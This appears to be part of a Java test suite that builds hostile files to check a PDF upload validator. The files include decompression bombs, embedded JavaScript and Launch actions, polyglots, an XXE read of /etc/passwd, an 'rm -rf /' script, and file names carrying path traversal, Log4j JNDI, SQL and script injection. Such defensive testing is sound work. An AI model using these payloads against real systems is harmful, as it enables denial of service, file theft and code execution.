                large(PAGES, 6000, 6000, "/BitsPerComponent 16/ColorSpace/DeviceRGB", 6));
        either(
                "costly",
                "a profile of light",
                large(TWO_PAGES, 5000, 7000, "/BitsPerComponent 8/ColorSpace[/ICCBased 7 0 R]", 3).stream(
                                "/N 3",
                                ICC_Profile.getInstance(ColorSpace.CS_LINEAR_RGB)
                                        .getData())
                        .build());
        either(
                "costly",
                "a large picture with a mask as large",
                large(TWO_PAGES, 3100, 3200, RGB + "/SMask 7 0 R", 3).stream(
                                "/Type/XObject/Subtype/Image/Width 3100/Height 3200/BitsPerComponent 8/ColorSpace/DeviceGray/Filter/FlateDecode",
                                deflated(3100 * 3200))
                        .build());
        tooMuch(
                "many inks in place of a profile that cannot be read",
                large(PAGES, 5000, 7000, "/BitsPerComponent 8/ColorSpace[/ICCBased 7 0 R]", 1).stream(
                        "/N 1/Alternate[/DeviceN[/A]/DeviceRGB 8 0 R]", new byte[10])
                        .stream("/FunctionType 4/Domain[0 1]/Range[0 1 0 1 0 1]", text(CALCULATOR)));
        tooMuch(
                "many inks in place of grey",
                drawn(
                        "595 0 0 842 0 0 cm /I Do",
                        "/ColorSpace<</DefaultGray[/DeviceN[/A]/DeviceRGB 7 0 R]>>/XObject<</I 6 0 R>>")
                        .stream(
                                "/Type/XObject/Subtype/Image/Width 5000/Height 7000/BitsPerComponent 8/ColorSpace/DeviceGray/Filter/FlateDecode",
                                deflated(35_000_000))
                        .stream("/FunctionType 4/Domain[0 1]/Range[0 1 0 1 0 1]", text(CALCULATOR)));
        either(
                "costly",
                "a JPEG 2000 larger than it says",
                image(
                        "/Width 2000/Height 3000/ColorSpace/DeviceRGB/BitsPerComponent 8/Filter/JPXDecode",
                        concat(
                                new byte[] {(byte) 0xff, 0x4f, (byte) 0xff, 0x51, 0, 41, 0, 0},
                                ByteBuffer.allocate(8)
                                        .putInt(60_000)
                                        .putInt(60_000)
                                        .array())));
        either("costly", "pictures among the instructions without end", page("/Filter/FlateDecode", deflated(out -> {
            var picture = concat(
                    text("q 595 0 0 842 0 0 cm BI /W 3000 /H 3000 /CS /RGB /BPC 8 /F /Fl ID "),
                    deflated(new byte[27_000_000]),
                    text("\nEI Q\n"));
            for (int n = 0; n < 100; n++) {
                write(out, picture);
            }
        })));
        var patterns = drawn("/Pattern cs /P6 scn 0 0 595 842 re f", "/Pattern<</P6 6 0 R>>");
        for (int n = 6; n < 36; n++) {
            patterns.stream(
                    "/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 595 842]/XStep 1/YStep 1/Resources<</Pattern<</P"
                            + (n + 1) + " " + (n + 1) + " 0 R>>>>",
                    text("/Pattern cs /P" + (n + 1) + " scn 0 0 595 842 re f"));
        }
        costly(
                "patterns of patterns, thirty deep",
                patterns.stream(
                        "/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 595 842]/XStep 1/YStep 1/Resources<<>>",
                        text("0 0 5 5 re f")));
        var masks = drawn("/E6 gs 0 0 595 842 re f", "/ExtGState<</E6 6 0 R>>");
        for (int n = 6; n < 46; n += 2) {
            masks.object("<</SMask<</S/Luminosity/G " + (n + 1) + " 0 R>>>>").stream(
                    "/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Group<</S/Transparency/CS/DeviceGray>>/Resources<</ExtGState<</E"
                            + (n + 2) + " " + (n + 2) + " 0 R>>>>",
                    text(("/E" + (n + 2) + " gs 0 0 595 842 re f ").repeat(3)));
        }
        costly("masks of masks, three to the twentieth", masks.object("<<>>"));
    }

    private void heavy(String name, int width, int height, String entries, int bytesOfPixel) {
        either(
                "costly",
                name,
                large(TWO_PAGES, width, height, entries, bytesOfPixel).build());
    }

    private static RawPdf large(String pages, int width, int height, String entries, int bytesOfPixel) {
        return new RawPdf(CATALOG, pages, PAGE)
                .stream("", text("595 0 0 842 0 0 cm /I Do")).object("<</XObject<</I 6 0 R>>>>").stream(
                        "/Type/XObject/Subtype/Image/Width " + width + "/Height " + height + entries
                                + "/Filter/FlateDecode",
                        deflated(width * height * bytesOfPixel));
    }

    private void costly(String name, RawPdf pdf) {
        either("costly", name, pdf.build());
    }

    private void tooMuch(String name, RawPdf pdf) {
        hostile("costly", name, EnumSet.of(Reason.TOO_LARGE), pdf.build());
    }

    private static RawPdf drawn(String instructions, String resources) {
        return new RawPdf(CATALOG, PAGES, PAGE).stream("", text(instructions)).object("<<" + resources + ">>");
    }

    private static RawPdf picture(String instructions, int width, int height, String colours) {
        return drawn(instructions, "/XObject<</I 6 0 R>>").stream(
                "/Type/XObject/Subtype/Image/BitsPerComponent 8/Width " + width + "/Height " + height
                        + (colours.isEmpty() ? "/ColorSpace/DeviceRGB" : colours) + "/Filter/FlateDecode",
                deflated(new byte[width * height * 3]));
    }

    private static RawPdf jbig2(byte[] segments) {
        return drawn("595 0 0 842 0 0 cm /I Do", "/XObject<</I 6 0 R>>").stream(
                "/Type/XObject/Subtype/Image/Width 100/Height 100/ColorSpace/DeviceGray/BitsPerComponent 1/Filter/JBIG2Decode",
                segments);
    }

    private String crossing(int lines) {
        return "0 0 m "
                + IntStream.range(0, lines)
                        .mapToObj(n -> random.nextInt(595) + " " + random.nextInt(842) + " l ")
                        .collect(Collectors.joining());
    }

    private static byte[] colours(String space) {
        return new RawPdf(CATALOG, PAGES, PAGE)
                .stream("", text("/C cs 0 0 1 1 re f"))
                        .object("<</ColorSpace<</C 6 0 R>>>>")
                        .object(space)
                        .build();
    }

    private void encrypted() {
        for (int bits : new int[] {40, 128, 256}) {
            for (var user : List.of("", "secret")) {
                hostile(
                        "encrypted",
                        bits + " bits, user password “" + user + "”",
                        EnumSet.of(Reason.ENCRYPTED),
                        locked(bits, user));
            }
        }
        refused(
                "encrypted",
                "in an unknown way",
                new RawPdf(CATALOG, PAGES, PAGE)
                        .stream("", new byte[0])
                                .object("<</Filter/Unknown/V 9>>")
                                .trailer("/Encrypt 5 0 R/ID[<00><00>]")
                                .build());
    }

    private byte[] locked(int bits, String user) {
        try (var document = Loader.loadPDF(form);
                var out = new ByteArrayOutputStream()) {
            var policy = new StandardProtectionPolicy("owner", user, new AccessPermission());
            policy.setEncryptionKeyLength(bits);
            document.protect(policy);
            document.save(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private void active() {
        var script = "<</S/JavaScript/JS(app.alert\\(1\\))>>";
        catalog("a script on opening", "/OpenAction " + script);
        catalog("a script on opening, elsewhere", "/OpenAction 6 0 R", script);
        catalog("a script under an escaped name", "/OpenAction<</#53/Jav#61Script/#4a#53(1)>>");
        catalog("named scripts", "/Names<</JavaScript<</Names[(a) 6 0 R]>>>>", script);
        catalog("a script on closing", "/AA<</WC " + script + ">>");
        catalog("a form that scripts", "/AcroForm<</Fields[]/XFA[(a)(b)]>>");
        catalog("an XFA form", "/AcroForm<</Fields[]/XFA 6 0 R>>", "<</A 1>>");
        catalog("an embedded file", "/Names<</EmbeddedFiles<</Names[(a.exe) 6 0 R]>>>>", "<</Type/Filespec/F(a.exe)>>");
        catalog("an associated file", "/AF[6 0 R]", "<</Type/Filespec/F(a.exe)>>");
        for (var action : List.of(
                "Launch/F(cmd.exe)",
                "GoToR/F(\\\\\\\\host\\\\share\\\\a.pdf)/D[0/Fit]",
                "GoToE/D[0/Fit]",
                "SubmitForm/F(http://example.org)",
                "ImportData/F(a.fdf)",
                "Rendition/OP 0",
                "Movie/T(a)",
                "Sound",
                "RichMediaExecute",
                "GoTo3DView")) {
            catalog("on opening " + action.replaceAll("/.*", ""), "/OpenAction<</S/" + action + ">>");
            activePage(
                    "on clicking " + action.replaceAll("/.*", ""),
                    "/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/" + action + ">>>>]");
        }
        activePage("a script on turning the page", "/AA<</O " + script + ">>");
        activePage(
                "a file pinned to the page",
                "/Annots[<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>>>]");
        activePage("a film", "/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]/RichMediaContent<<>>>>]");
        activePage(
                "a chain of actions",
                "/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/GoTo/D[3 0 R/Fit]/Next[<</S/GoTo/D[3 0 R/Fit]/Next 6 0 R>>]>>>>]");
        hostile("active", "a script in an object stream", EnumSet.of(Reason.ACTIVE_CONTENT), scriptInStream());
    }

    private byte[] scriptInStream() {
        try (var document = Loader.loadPDF(form);
                var out = new ByteArrayOutputStream()) {
            var action = new COSDictionary();
            action.setItem(COSName.S, COSName.getPDFName("JavaScript"));
            action.setItem(COSName.getPDFName("JS"), new COSString("app.alert(1)"));
            document.getDocumentCatalog().getCOSObject().setItem(COSName.getPDFName("OpenAction"), action);
            document.save(out, CompressParameters.DEFAULT_COMPRESSION);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private void catalog(String name, String entries, String... further) {
        var pdf = new RawPdf("<</Type/Catalog/Pages 2 0 R" + entries + ">>", PAGES, PAGE)
                .stream("", text("0 0 9 9 re f")).object("<<>>");
        List.of(further).forEach(pdf::object);
        hostile("active", name, EnumSet.of(Reason.ACTIVE_CONTENT), pdf.build());
    }

    private void activePage(String name, String entries) {
        hostile(
                "active",
                name,
                EnumSet.of(Reason.ACTIVE_CONTENT),
                new RawPdf(CATALOG, PAGES, PAGE.substring(0, PAGE.length() - 2) + entries + ">>")
                        .stream("", text("0 0 9 9 re f"))
                                .object("<<>>")
                                .object("<</S/JavaScript/JS(1)>>")
                                .build());
    }

    private void otherTypes() {
        wrongType("nothing", new byte[0]);
        wrongType("HTML", text("<!doctype html><script>alert(1)</script>"));
        wrongType("SVG", text("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"));
        wrongType("XML with entities", text("<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>"));
        wrongType("a ZIP", zip());
        wrongType("a program for Windows", concat(text("MZ"), random(2000)));
        wrongType("a program for Linux", concat(new byte[] {0x7f, 'E', 'L', 'F'}, random(2000)));
        wrongType("a PNG", png());
        wrongType("a JPEG", jpegHead(100, 100, 0xc0));
        wrongType("a TIFF", concat(text("II*\0"), random(500)));
        wrongType("a GIF", concat(text("GIF89a"), random(500)));
        wrongType("noise", random(5000));
        wrongType("a script", text("#!/bin/sh\nrm -rf /\n"));
        wrongType("PostScript", text("%!PS-Adobe-3.0\n(a) run\n%%EOF\n"));
        refused("type", "a head alone", text("%PDF-1.7"));
        refused("type", "head and end alone", text("%PDF-1.7\n%%EOF\n"));
        refused("type", "head, noise, end", concat(text("%PDF-1.7\n"), random(5000), text("\n%%EOF\n")));
        refused(
                "type",
                "a form data file",
                text("%FDF-1.2\n1 0 obj<</FDF<</F(a.pdf)>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"));
    }

    private void polyglots() {
        wrongType("HTML before a PDF", concat(text("<html><script>alert(1)</script><!--"), form));
        wrongType("a ZIP before a PDF", concat(zip(), form));
        wrongType("a PNG before a PDF", concat(png(), form));
        wrongType("a program before a PDF", concat(text("MZ\0\0"), form));
        wrongType("a script before a PDF", concat(text("#!/bin/sh\nexit\n"), form));
        refused("polyglot", "a ZIP behind a PDF", concat(form, zip()));
        refused("polyglot", "HTML behind a PDF", concat(form, text("<html><script>alert(1)</script>")));
    }

    private void fileNames() {
        var names = List.of(
                "../../../../etc/passwd",
                "..\\..\\windows\\win.ini",
                "C:\\con.pdf",
                "/etc/cron.d/a",
                "a\r\nSet-Cookie: x=1",
                "a".repeat(300) + ".pdf",
                "表".repeat(300) + ".pdf",
                "scan\u202efdp.exe",
                "a\u0000.pdf",
                "<img src=x onerror=alert(1)>.pdf",
                "'; drop table document; --.pdf",
                "${jndi:ldap://example.org/a}.pdf",
                "%2e%2e%2fa.pdf",
                ".");
        for (int i = 0; i < names.size(); i++) {
            var content = i % 2 == 0 ? text("<html>") : page("", text("0 0 9 9 re f"));
            files.add(new HostileFile(
                    "name",
                    "number " + (i + 1),
                    names.get(i),
                    content,
                    i % 2 == 0 ? EnumSet.of(Reason.NOT_A_PDF) : Set.of()));
        }
    }

    private void bomb(String name, byte[] content) {
        hostile("bomb", name, EnumSet.of(Reason.TOO_LARGE, Reason.TOO_MANY_PAGES, Reason.DAMAGED), content);
    }

    private void damaged(String name, byte[] content) {
        hostile("structure", name, EnumSet.of(Reason.DAMAGED), content);
    }

    private void wrongType(String name, byte[] content) {
        hostile("type", name, EnumSet.of(Reason.NOT_A_PDF), content);
    }

    /** A colour that has to be calculated. */
    private void functions(String name, String entries, String content) {
        damaged(
                name,
                new RawPdf(CATALOG, PAGES, PAGE)
                        .stream("", text("/C cs 1 scn 0 0 500 500 re f"))
                                .object("<</ColorSpace<</C[/Separation/Foo/DeviceRGB 6 0 R]>>>>")
                                .stream(entries, text(content))
                                .build());
    }

    private void refused(String kind, String name, byte[] content) {
        hostile(kind, name, EnumSet.allOf(Reason.class), content);
    }

    private void either(String kind, String name, byte[] content) {
        hostile(kind, name, Set.of(), content);
    }

    private void hostile(String kind, String name, Set<Reason> reasons, byte[] content) {
        files.add(new HostileFile(kind, name, "a.pdf", content, reasons));
    }

    private static byte[] page(String entries, byte[] content) {
        return new RawPdf(CATALOG, PAGES, PAGE)
                .stream(entries, content).object("<<>>").build();
    }

    private static byte[] image(String entries, byte[] content) {
        return new RawPdf(CATALOG, PAGES, PAGE)
                .stream("", text("595 0 0 842 0 0 cm /I Do")).object("<</XObject<</I 6 0 R>>>>").stream(
                                "/Type/XObject/Subtype/Image" + entries, content)
                        .build();
    }

    private static byte[] pagesOf(int count) {
        try (var document = new PDDocument();
                var out = new ByteArrayOutputStream()) {
            IntStream.range(0, count).forEach(n -> document.addPage(new PDPage()));
            document.save(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static byte[] saved(byte[] pdf, CompressParameters how) {
        try (var document = Loader.loadPDF(pdf);
                var out = new ByteArrayOutputStream()) {
            document.save(out, how);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static byte[] deflated(int zeros) {
        return deflated(out -> {
            var piece = new byte[MEGABYTE];
            for (int left = zeros; left > 0; left -= piece.length) {
                write(out, left < piece.length ? new byte[left] : piece);
            }
        });
    }

    private static byte[] deflated(byte[] content) {
        return deflated(out -> write(out, content));
    }

    private static byte[] deflated(Consumer<OutputStream> content) {
        var out = new ByteArrayOutputStream();
        try (var deflater = new DeflaterOutputStream(out, new Deflater(Deflater.BEST_SPEED))) {
            content.accept(deflater);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    private static byte[] runs(int zeros) {
        var runs = new byte[zeros / 128 * 2 + 1];
        for (int i = 0; i + 1 < runs.length; i += 2) {
            runs[i] = (byte) 129;
        }
        runs[runs.length - 1] = (byte) 128;
        return runs;
    }

    /** Each code refers to the entry that it makes itself, which is one zero longer than the last one; 7 MB a round. */
    private static byte[] lzw(int rounds) {
        var bits = new StringBuilder();
        for (int round = 0; round < rounds; round++) {
            bits.append(binary(256, round == 0 ? 9 : 12));
            bits.append(binary(0, 9));
            for (int size = 258; size < 4090; size++) {
                bits.append(binary(size, size + 1 >= 2048 ? 12 : size + 1 >= 1024 ? 11 : size + 1 >= 512 ? 10 : 9));
            }
        }
        bits.append("0".repeat(8 - bits.length() % 8));
        var out = new ByteArrayOutputStream();
        for (int i = 0; i < bits.length(); i += 8) {
            out.write(Integer.parseInt(bits, i, i + 8, 2));
        }
        return out.toByteArray();
    }

    private static String binary(int code, int width) {
        var digits = Integer.toBinaryString(code);
        return "0".repeat(width - digits.length()) + digits;
    }

    private static String hexadecimal(String bits) {
        return new BigInteger("1" + bits, 2).toString(16).substring(1);
    }

    private static byte[] hex(byte[] content) {
        return text(HexFormat.of().formatHex(content) + ">");
    }

    private static byte[] ascii85(byte[] content) {
        var out = new ByteArrayOutputStream();
        try (var in = new ByteArrayInputStream(content)) {
            FilterFactory.INSTANCE.getFilter(COSName.ASCII85_DECODE).encode(in, out, new COSDictionary(), 0);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    private static byte[] jpegHead(int width, int height, int kind) {
        return new byte[] {
            (byte) 0xff,
            (byte) 0xd8,
            (byte) 0xff,
            (byte) kind,
            0,
            17,
            8,
            (byte) (height >> 8),
            (byte) height,
            (byte) (width >> 8),
            (byte) width,
            3,
            1,
            0x11,
            0,
            2,
            0x11,
            0,
            3,
            0x11,
            0
        };
    }

    private static byte[] passes(int count) {
        var pass = new byte[] {(byte) 0xff, (byte) 0xda, 0, 8, 1, 1, 0, 0, 0, 0};
        var out = new ByteArrayOutputStream();
        IntStream.range(0, count).forEach(n -> out.writeBytes(pass));
        return out.toByteArray();
    }

    private static byte[] jbig2(int type, int width, int height) {
        var segment = ByteBuffer.allocate(30);
        segment.putInt(0).put((byte) type).put((byte) 0).put((byte) 1).putInt(19);
        return segment.putInt(width).putInt(height).array();
    }

    /** @param referred number of the segment that it needs, in hexadecimal, if any */
    private static byte[] segment(int number, int type, String referred, String hexadecimal) {
        var content = HexFormat.of().parseHex(hexadecimal);
        var needed = HexFormat.of().parseHex(referred);
        var segment = ByteBuffer.allocate(11 + needed.length + content.length);
        segment.putInt(number).put((byte) type).put((byte) (needed.length << 5)).put(needed);
        return segment.put((byte) 1).putInt(content.length).put(content).array();
    }

    private static byte[] unknownLength(byte[] segment) {
        Arrays.fill(segment, 7, 11, (byte) 0xff);
        return segment;
    }

    private static byte[] zip() {
        var out = new ByteArrayOutputStream();
        try (var zip = new ZipOutputStream(out)) {
            zip.putNextEntry(new ZipEntry("../../a.exe"));
            zip.write(new byte[100]);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    private static byte[] png() {
        var head = text("IHDR\0\0\0\1\0\0\0\1\10\2\0\0\0");
        var crc = new CRC32();
        crc.update(head);
        return concat(
                new byte[] {(byte) 0x89, 'P', 'N', 'G', 13, 10, 26, 10, 0, 0, 0, 13},
                head,
                ByteBuffer.allocate(4).putInt((int) crc.getValue()).array());
    }

    private byte[] random(int length) {
        var bytes = new byte[length];
        random.nextBytes(bytes);
        return bytes;
    }

    private static byte[] filled(int length, int with) {
        var bytes = new byte[length];
        Arrays.fill(bytes, (byte) with);
        return bytes;
    }

    private static byte[] concat(byte[]... parts) {
        var all = new ByteArrayOutputStream();
        for (var part : parts) {
            all.writeBytes(part);
        }
        return all.toByteArray();
    }

    private static void write(OutputStream out, byte[] bytes) {
        try {
            out.write(bytes);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static String latin(byte[] bytes) {
        return new String(bytes, StandardCharsets.ISO_8859_1);
    }

    private static byte[] bytes(String latin) {
        return latin.getBytes(StandardCharsets.ISO_8859_1);
    }

    private static byte[] text(String text) {
        return text.getBytes(StandardCharsets.ISO_8859_1);
    }

    /** A PDF made by hand, with objects numbered from 1. Its table of objects is right, whatever is wrong with the objects. */
    private static final class RawPdf {

        private final ByteArrayOutputStream out = new ByteArrayOutputStream();
        private final List<Integer> offsets = new ArrayList<>();
        private final List<int[]> inStreams = new ArrayList<>();
        private String trailer = "/Root 1 0 R";

        RawPdf(String... objects) {
            out.writeBytes(text("%PDF-1.7\n"));
            List.of(objects).forEach(this::object);
        }

        RawPdf object(String content) {
            return raw(content);
        }

        RawPdf raw(String content) {
            begin();
            out.writeBytes(text(content + "\nendobj\n"));
            return this;
        }

        RawPdf stream(String entries, byte[] content) {
            begin();
            out.writeBytes(text("<<" + entries + "/Length " + content.length + ">>\nstream\n"));
            out.writeBytes(content);
            out.writeBytes(text("\nendstream\nendobj\n"));
            return this;
        }

        /** Says that an object lies within a stream. */
        RawPdf inStream(int number, int stream) {
            inStreams.add(new int[] {number, stream});
            return this;
        }

        RawPdf trailer(String entries) {
            trailer = entries.contains("/Root") ? entries : trailer + entries;
            return this;
        }

        byte[] build() {
            int table = out.size();
            out.writeBytes(text("xref\n0 " + (offsets.size() + 1) + "\n0000000000 65535 f \n"));
            offsets.forEach(offset -> out.writeBytes(text("%010d 00000 n \n".formatted(offset))));
            out.writeBytes(text(
                    "trailer\n<</Size " + (offsets.size() + 1) + trailer + ">>\nstartxref\n" + table + "\n%%EOF\n"));
            return out.toByteArray();
        }

        byte[] buildWithStream() {
            int size = Math.max(
                    offsets.size() + 2,
                    inStreams.stream().mapToInt(in -> in[0] + 1).max().orElse(0));
            var entries = ByteBuffer.allocate(7 * size);
            for (int n = 0; n < offsets.size(); n++) {
                entries.position(7 * (n + 1));
                entries.put((byte) 1).putInt(offsets.get(n)).putShort((short) 0);
            }
            for (var in : inStreams) {
                entries.position(7 * in[0]);
                entries.put((byte) 2).putInt(in[1]).putShort((short) 0);
            }
            return xref("/W[1 4 2]/Size " + size, entries.array());
        }

        /** Ends the file with a cross-reference stream of this content. */
        byte[] xref(String entries, byte[] content) {
            int table = out.size();
            stream(
                    "/Type/XRef" + (entries.contains("/Size") ? "" : "/Size 2000000") + "/Root 1 0 R" + entries,
                    content);
            out.writeBytes(text("startxref\n" + table + "\n%%EOF\n"));
            return out.toByteArray();
        }

        private void begin() {
            offsets.add(out.size());
            out.writeBytes(text(offsets.size() + " 0 obj\n"));
        }
    }
}
